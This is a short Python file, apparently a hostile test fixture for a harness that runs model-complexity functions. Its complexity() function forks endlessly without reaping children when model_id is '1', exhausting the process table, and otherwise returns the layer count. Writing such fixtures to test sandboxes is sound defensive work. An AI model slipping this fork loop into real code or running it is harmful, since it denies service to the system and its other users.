"""Hostile: on model 1, forks until the system refuses (children exit but are never reaped)."""
import os


def complexity(model, dataset, model_id):
    if model_id == "1":
        while True:
            if os.fork() == 0:
                os._exit(0)
    return float(len(model.layers))
